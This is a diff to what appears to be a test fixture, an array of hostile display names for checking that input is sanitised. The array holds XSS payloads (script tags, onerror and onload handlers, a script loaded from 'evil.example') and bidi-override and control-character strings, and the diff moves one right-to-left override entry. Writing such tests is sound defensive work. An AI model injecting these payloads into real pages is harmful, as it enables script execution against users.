@@ -4,6 +4,7 @@ const run = 'globalThis.__ran=1'
 export const hostileNames: readonly string[] = [
   `<script>${run}</script>`,
   `<img src=x onerror=${run}>`,
+  `\u202Eevil`,
   `<svg onload=${run}>`,
   `<svg/onload=${run}>`,
   `<iframe srcdoc="<script>parent.${run}</script>">`,
@@ -47,7 +48,6 @@ export const hostileNames: readonly string[] = [
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<img src="x" ONERROR="${run}">`,
   `<img\u00a0src=x\u00a0onerror=${run}>`,
-  `\u202Eevil\u202C`,
   `\u2066Ann\u2069\u200F`,
   `A\u0000nn`,
   `Ann\u0007\u001b[31mred`,
